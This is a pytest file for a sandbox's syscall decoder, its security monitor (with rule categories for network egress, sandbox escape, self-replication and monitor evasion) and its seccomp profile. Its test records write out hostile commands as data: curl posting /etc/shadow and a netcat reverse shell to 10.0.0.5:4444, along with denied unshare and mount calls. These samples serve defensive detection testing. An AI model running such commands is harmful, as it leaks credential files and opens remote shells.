"""Decoding of the executor's syscall records, the monitor rules reading them, and the
profile handing the denied set over (TRACE) while keeping it refused."""

from __future__ import annotations

import ipaddress
import struct

import pytest

from sandbox.backends.docker import seccomp
from sandbox.backends.docker.seccomp_syscalls import X86_64_SYSCALLS
from sandbox.errors import ExecutorProtocolError
from sandbox.events import Category, Event, Severity, SyscallObserved, parse_event
from sandbox.monitor.detectors.syscalls import STUB_NETWORK, outside_address
from sandbox.monitor.monitor import Monitor
from sandbox.sessions.executor.syscalls import decode_sockaddr, decode_syscall
from sandbox.stubs.world import ANSWER_IP


def field(key: str, value: bytes) -> bytes:
    return key.encode() + struct.pack(">I", len(value)) + value


def record(
    nr: int, name: str, *, denied: int = 0, args: tuple[int, ...] = (0,) * 6, **extra: bytes
) -> bytes:
    parts = [
        field("q", b"7"),
        field("p", b"42"),
        field("n", str(nr).encode()),
        field("N", name.encode()),
        field("d", str(denied).encode()),
        field("A", " ".join(str(a) for a in args).encode()),
        field("T", b"1700000000000000000"),
    ]
    parts += [field(k, v) for k, v in extra.items()]
    return b"".join(parts)


def test_execve_argv_and_path() -> None:
    event = decode_syscall(
        record(59, "execve", P=b"/usr/bin/curl", v=b"curl\0-d\0@/etc/shadow\0"), serial=7
    )
    assert event.args == {"path": "/usr/bin/curl", "argv": ["curl", "-d", "@/etc/shadow"]}
    assert (event.pid, event.denied, event.earlier, event.ts) == (42, False, False, 1.7e9)
    assert decode_syscall(record(59, "execve", v=b"x\0"), serial=8).earlier


def test_socket_addresses() -> None:
    v4 = struct.pack("<H", 2) + struct.pack(">H", 443) + bytes([10, 0, 0, 9]) + b"\0" * 8
    assert decode_sockaddr(v4) == {"family": "AF_INET", "port": 443, "address": "10.0.0.9"}
    v6 = struct.pack("<H", 10) + struct.pack(">H", 53) + b"\0" * 4
    v6 += ipaddress.IPv6Address("fd00::7").packed + b"\0" * 4
    assert decode_sockaddr(v6)["address"] == "fd00::7"
    assert decode_sockaddr(struct.pack("<H", 1) + b"\0hidden\0")["path"] == "@hidden"
    assert decode_sockaddr(struct.pack("<H", 1) + b"/run/x.sock\0\0")["path"] == "/run/x.sock"
    event = decode_syscall(record(42, "connect", args=(3, 1, 16, 0, 0, 0), S=v4), serial=7)
    assert event.args == {"fd": 3, "family": "AF_INET", "port": 443, "address": "10.0.0.9"}


def test_denied_calls_decoded() -> None:
    unshare = decode_syscall(
        record(272, "unshare", denied=1, args=(0x50000000, 0, 0, 0, 0, 0)), serial=7
    )
    assert unshare.denied and unshare.errno == 1
    assert unshare.args["flags"] == ["CLONE_NEWUSER", "CLONE_NEWNET"]
    mount = decode_syscall(record(165, "mount", denied=1, v=b"proc\0/mnt\0proc\0"), serial=7)
    assert (mount.args["source"], mount.args["target"], mount.args["fstype"]) == (
        "proc",
        "/mnt",
        "proc",
    )
    sock = decode_syscall(record(41, "socket", denied=1, args=(17, 3, 0, 0, 0, 0)), serial=7)
    assert sock.args == {"family": "AF_PACKET", "type": "SOCK_RAW", "protocol": 0}
    lim = decode_syscall(
        record(302, "prlimit64", args=(0, 7, 1, 0, 0, 0), B=struct.pack("<QQ", 4096, 2**64 - 1)),
        serial=7,
    )
    assert lim.args == {"pid": 0, "resource": "RLIMIT_NOFILE", "soft": 4096, "hard": "unlimited"}
    assert parse_event(lim.model_dump_json()) == lim  # round trip through the log


@pytest.mark.parametrize(
    "payload",
    [
        record(59, "execve")[:-3],  # truncated
        record(59, "execve", denied=2),
        record(59, "exec ve"),
        record(59, "execve", args=(1, 2, 3)),
        record(59, "execve", args=(2**64, 0, 0, 0, 0, 0)),
        record(59, "execve", Z=b"1"),
        field("q", b"1"),
    ],
)
def test_malformed_records_are_refused(payload: bytes) -> None:
    with pytest.raises(ExecutorProtocolError):
        decode_syscall(payload, serial=1)


def categories(events: list[Event]) -> dict[str, tuple[Category, Severity]]:
    monitor = Monitor()
    return {
        f.rule_id: (f.category, f.severity)
        for seq, event in enumerate(events)
        for f in monitor.observe(seq, event)
    }


def call(name: str, *, denied: bool = False, **args: object) -> SyscallObserved:
    return SyscallObserved(pid=5, syscall=name, nr=0, denied=denied, args=args)  # type: ignore[arg-type]


def test_the_monitor_reads_syscalls_alone() -> None:
    found = categories(
        [
            call("execve", path="/usr/bin/nc", argv=["nc", "-e", "/bin/sh", "10.0.0.5", "4444"]),
            call("connect", fd=3, family="AF_INET", address="10.0.0.5", port=4444),
            call("mount", denied=True, source="none", target="/mnt", fstype="proc"),
            call("unshare", denied=True, flags=["CLONE_NEWUSER"]),
            call("clock_settime", denied=True, clock=0),
        ]
    )
    cats = {c for c, _ in found.values()}
    assert {Category.NETWORK_EGRESS, Category.SANDBOX_ESCAPE, Category.MONITOR_EVASION} <= cats
    assert found["network_egress.connect_address"] == (Category.NETWORK_EGRESS, Severity.HIGH)
    assert found["sandbox_escape.denied_mount"][1] == Severity.HIGH
    assert any(
        rule.startswith(("network_egress", "self_replication", "exfiltration"))
        and rule != "network_egress.connect_address"
        for rule in found
    ), found


def test_local_and_stub_traffic_is_not_egress() -> None:
    assert ipaddress.ip_address(ANSWER_IP) in STUB_NETWORK
    assert not outside_address("127.0.0.53") and not outside_address("::1")
    assert not outside_address(ANSWER_IP) and not outside_address("::ffff:198.18.0.1")
    assert outside_address("10.1.2.3") and outside_address("2001:db8::1")
    quiet = [
        call("connect", fd=3, family="AF_INET", address=ANSWER_IP, port=443),
        call("connect", fd=3, family="AF_UNIX", path="/run/x"),
        call("execve", path="/usr/bin/ls", argv=["ls", "-la"]),
        call("listen", fd=3, backlog=5),
    ]
    assert categories(quiet) == {}


def test_the_profile_hands_the_denied_set_over_and_still_refuses_it() -> None:
    profile = seccomp.build_profile()
    allowed = {
        n
        for r in profile["syscalls"]
        if r["action"] == "SCMP_ACT_ALLOW" and not r.get("args")
        for n in r["names"]
    }
    traced = {
        n
        for r in profile["syscalls"]
        if r["action"] == "SCMP_ACT_TRACE" and not r.get("args")
        for n in r["names"]
    }
    assert traced == set(seccomp.DENIED) and not traced & allowed
    handed = dict(item.split(":") for item in seccomp.observed_denials().split(","))
    assert {int(v) for v in handed.values()} == {
        X86_64_SYSCALLS[n] for n in seccomp.DENIED if n in X86_64_SYSCALLS
    }
    assert "socket" not in handed and "clone" not in handed  # the executor checks their arguments
    families = {
        r["args"][0]["value"]
        for r in profile["syscalls"]
        if r["names"] == ["socket"] and r["action"] == "SCMP_ACT_TRACE" and len(r["args"]) == 1
    }
    assert 17 in families and 40 in families and not families & {1, 2, 10, 16}
